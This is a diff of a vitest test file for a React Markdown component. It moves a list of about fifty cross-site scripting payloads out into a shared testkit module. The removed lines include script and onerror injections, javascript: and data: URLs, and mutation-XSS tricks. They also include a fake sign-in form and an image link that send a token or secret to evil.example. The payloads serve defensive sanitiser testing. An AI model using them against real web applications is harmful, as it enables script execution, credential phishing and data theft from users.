@@ -2,6 +2,7 @@ import { act } from 'react'
 import { createRoot } from 'react-dom/client'
 import { beforeAll, describe, expect, test, vi } from 'vitest'
 import { TooltipProvider } from '@/design/Tooltip'
+import { HOSTILE } from '@/testkit/hostile'
 import { Markdown } from './Markdown'
 
 beforeAll(() => vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true))
@@ -18,57 +19,6 @@ async function show(source: string, streaming = false): Promise<HTMLElement> {
   )
   return host
 }
-
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" &#106;avascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="/api/auth/logout">x</a>',
-  '<a href="//evil.example/x">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](  javascript:alert(1) "t")',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](file:///etc/passwd)',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/?leak=secret)',
-  '<javascript:alert(1)>',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '<style>*{display:none}</style>',
-  '<p style="position:fixed;inset:0;background:red">x</p>',
-  '<div class="fixed inset-0 bg-raised">pretend to be the app</div>',
-  '<code class="language-x fixed inset-0">x</code>',
-  '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
-  '<input type="image" src=x onerror=alert(1)>',
-  '<input type="text" autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '<base href="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<a id=root name=getElementById href="https://ok.example">clobber</a>',
-  '<span data-message="x" aria-label="Send" role="button" tabindex="0" contenteditable>x</span>',
-  '```html\n<script>alert(1)</script>\n```',
-  '```"><img src=x onerror=alert(1)>\nx\n```',
-  '$\\href{javascript:alert(1)}{x}$',
-  '$$\\htmlStyle{position:fixed}{x}$$',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '`<img src=x onerror=alert(1)>`',
-  '\u202ejavascript:alert(1)',
-]
 
 const FORBIDDEN = 'script, iframe, object, embed, style, link, meta, base, form, img, video, audio, source, template, noscript, math [href], [srcdoc], [contenteditable], button[type=submit]'
 const ALLOWED_ATTRIBUTES = new Set([
